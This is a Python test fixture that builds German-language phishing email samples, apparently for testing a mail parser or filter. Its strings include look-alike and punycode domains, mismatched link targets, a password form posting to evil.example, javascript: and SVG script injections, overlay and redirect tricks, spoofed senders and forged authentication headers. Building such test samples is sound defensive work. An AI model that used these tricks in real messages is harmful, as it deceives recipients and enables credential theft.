"""Messages that want something else than they say."""

from collections.abc import Iterator

from tests.corpus.sample import Sample
from tests.corpus.writing import message, part, word_q


def samples() -> Iterator[Sample]:
    """Yield the messages of this kind."""
    for name, special, sender, address, markup, fields in (
        (
            "other-host",
            "the link's text shows another host than its target",
            "Bank <info@bank.example>",
            "info@bank.example",
            '<a href="https://bank.example.evil.example/login">https://www.bank.example/login</a>',
            (),
        ),
        (
            "look-alike",
            "a host with Cyrillic letters among Latin ones",
            "Bank <info@bank.example>",
            "info@bank.example",
            '<a href="https://www.b\u0430nk.example/">www.bank.example</a>',
            (),
        ),
        (
            "punycode",
            "the same in punycode",
            "Bank <info@bank.example>",
            "info@bank.example",
            '<a href="https://xn--bnk-7cd.example/">www.bank.example</a>',
            (),
        ),
        (
            "userinfo",
            "a user name that looks like a host",
            "Bank <info@bank.example>",
            "info@bank.example",
            '<a href="https://www.bank.example@evil.example/">Anmelden</a>',
            (),
        ),
        (
            "numbers",
            "an address in numbers",
            "Bank <info@bank.example>",
            "info@bank.example",
            '<a href="http://192.0.2.66/bank">Anmelden</a>',
            (),
        ),
        (
            "javascript",
            "a link that is a script",
            "Bank <info@bank.example>",
            "info@bank.example",
            '<a href="java&#10;script:alert(1)">Anmelden</a>',
            (),
        ),
        (
            "display-name",
            "the name is another address",
            '"chef@folkmoot.example" <chef@evil.example>',
            "chef@evil.example",
            "<p>Bitte überweisen.</p>",
            (),
        ),
        (
            "reply-to",
            "the answer goes elsewhere",
            "Chef <chef@folkmoot.example>",
            "chef@folkmoot.example",
            "<p>Bitte überweisen.</p>",
            ("Reply-To: chef@evil.example",),
        ),
        (
            "encoded-name",
            "an address hidden in an encoded name",
            f"{word_q('chef@folkmoot.example')} <x@evil.example>",
            "x@evil.example",
            "<p>Bitte überweisen.</p>",
            (),
        ),
        (
            "form",
            "a form that asks for a password",
            "Post <post@folkmoot.example>",
            "post@folkmoot.example",
            '<form action="https://evil.example/" method="post"><input type="password" name="p" value="geheim"><input type="submit" value="Weiter"></form>',
            (),
        ),
        (
            "overlay",
            "an element over the whole window",
            "Post <post@folkmoot.example>",
            "post@folkmoot.example",
            '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Sitzung abgelaufen</div>',
            (),
        ),
        (
            "failed-authentication",
            "SPF, DKIM and DMARC failed, says our own server",
            "Bank <info@bank.example>",
            "info@bank.example",
            "<p>Hallo</p>",
            (
                "Authentication-Results: mx.folkmoot.example; spf=fail smtp.mailfrom=bank.example; dkim=none; dmarc=fail header.from=bank.example",
            ),
        ),
        (
            "forged-authentication",
            "the sender wrote the result himself",
            "Bank <info@bank.example>",
            "info@bank.example",
            "<p>Hallo</p>",
            ("Authentication-Results: anderswo.example; spf=pass; dkim=pass; dmarc=pass",),
        ),
        (
            "svg-script",
            "an SVG with handlers in the page",
            "x <x@evil.example>",
            "x@evil.example",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><p>Hallo</p>",
            (),
        ),
        (
            "meta-refresh",
            "the page leads away",
            "x <x@evil.example>",
            "x@evil.example",
            '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Hallo</p>',
            (),
        ),
        (
            "base",
            "all links go elsewhere",
            "x <x@evil.example>",
            "x@evil.example",
            '<base href="https://evil.example/"><a href="/login">Anmelden</a>',
            (),
        ),
    ):
        yield Sample(
            name=f"phishing-{name}",
            special=special,
            octets=message(
                sender,
                f"Konto: {name}",
                part(
                    "text/html; charset=utf-8",
                    f"<html><body><p>Sehr geehrte Kundin</p>{markup}</body></html>",
                    encoding="base64",
                ),
                *fields,
            ),
            subject=f"Konto: {name}",
            sender=address,
            text=("Sehr geehrte Kundin",),
        )
